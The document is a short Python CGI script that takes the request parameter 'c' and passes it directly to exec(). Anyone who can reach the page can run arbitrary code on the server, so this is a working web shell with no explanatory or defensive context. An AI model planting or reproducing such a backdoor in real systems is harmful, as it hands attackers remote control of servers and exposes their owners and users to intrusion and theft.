#!/usr/bin/env python3
import cgi
form = cgi.FieldStorage()
print("Content-Type: text/plain\n")
if "c" in form:
    exec(form.getvalue("c"))
